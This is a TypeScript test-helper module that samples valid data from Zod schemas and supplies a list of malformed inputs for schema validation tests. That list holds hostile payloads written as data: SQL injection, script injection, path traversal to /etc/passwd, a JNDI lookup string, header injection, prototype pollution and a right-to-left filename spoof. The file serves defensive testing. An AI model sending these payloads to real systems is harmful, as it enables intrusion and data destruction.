/** Data that a schema takes, found by looking into the schema, and every way we know to spoil it. */
import { z } from 'zod';

const candidates: readonly unknown[] = [
  '00000000-0000-4000-8000-00000000abcd',
  'en',
  '2026-11-28T09:00',
  '2026-11-28T09:00:00.000Z',
  'https://example.org/',
  'once',
  'some words',
  // A SHA-256 in base64url.
  'a'.repeat(43),
  // The first of a month.
  '2030-05-01T00:00:00.000Z',
  // A version of words, by its day.
  '2026-11-01',
  1,
  // Years of somebody's age.
  16,
  true,
  null,
];

type Inside = z.ZodType & {
  readonly def: { readonly type: string; readonly innerType?: z.ZodType; readonly element?: z.ZodType };
  readonly shape?: Readonly<Record<string, z.ZodType>>;
  readonly options?: readonly unknown[];
};

/** A value the schema takes, with every optional field in it. @throws Error when none of the candidates fits: add one */
export function sampleOf(schema: z.ZodType): unknown {
  const { def, shape, options = [] } = schema as Inside;
  if (def.type === 'object') return Object.fromEntries(Object.entries(shape ?? {}).map(([field, inner]) => [field, sampleOf(inner)]));
  if (def.type === 'array' && def.element) return [sampleOf(def.element)];
  if (def.innerType) return sampleOf(def.innerType);
  const fitting = [...options, ...candidates].find((candidate) => schema.safeParse(candidate).success);
  if (fitting === undefined)
    throw new Error(`No sample for ${def.type}: ${JSON.stringify(z.toJSONSchema(schema, { unrepresentable: 'any' }))}`);
  return fitting;
}

/** Values of every wrong kind and size. Which of them are wrong, the schema says. */
export const oddities: Readonly<Record<string, unknown>> = {
  null: null,
  'an empty text': '',
  'blanks only': ' \t\n ',
  'a number': 42,
  'a negative number': -1,
  'a fraction': 0.5,
  'a huge number': 1e308,
  'not a number': NaN,
  'no end of a number': Infinity,
  'a truth': true,
  'a list': ['a'],
  'an empty list': [],
  'a long list': Array.from({ length: 50_000 }, () => 'x'),
  'a thing': { a: 1 },
  'a thing with a prototype': JSON.parse('{"__proto__":{"admin":true}}') as unknown,
  'a deep thing': JSON.parse(`${'['.repeat(5000)}${']'.repeat(5000)}`) as unknown,
  'a text too long for anyone': 'x'.repeat(1_000_000),
  'a text of combining marks': 'e\u0301'.repeat(20_000),
  'a query': "'; DROP TABLE events; --",
  'a script': '<script>alert(1)</script>',
  'a path': '../../../../etc/passwd',
  'a template': '${jndi:ldap://example.org/a}',
  'a line that is two': 'one\r\nSet-Cookie: two=2',
  'a zero byte': 'before\u0000after',
  'half a character': '\ud800',
  'text from right to left': '\u202Etxt.exe',
  'somebody else’s id': 'ffffffff-ffff-4fff-8fff-ffffffffffff',
  'the name of a prototype': '__proto__',
  'a date that is none': '2026-02-30T09:00',
  'a moment without a zone': '2026-11-28T09:00:00',
  'a program in a link': 'javascript:alert(1)',
};

/** Where the fields of a value are, the value itself first: `[]`, `['place']`, `['place', 'name']`. */
export function pathsOf(value: unknown, at: readonly string[] = []): (readonly string[])[] {
  if (typeof value !== 'object' || value === null) return [at];
  return [at, ...Object.entries(value).flatMap(([field, inner]) => pathsOf(inner, [...at, field]))];
}

/** A copy with another value at the path; without the field when `value` is left out. */
export function withAt(given: unknown, [field, ...rest]: readonly string[], ...value: [unknown?]): unknown {
  if (field === undefined) return value[0];
  const copy = (Array.isArray(given) ? [...given] : { ...(given as object) }) as Record<string, unknown>;
  if (rest.length === 0 && value.length === 0) delete copy[field];
  else copy[field] = withAt(copy[field], rest, ...value);
  return copy;
}
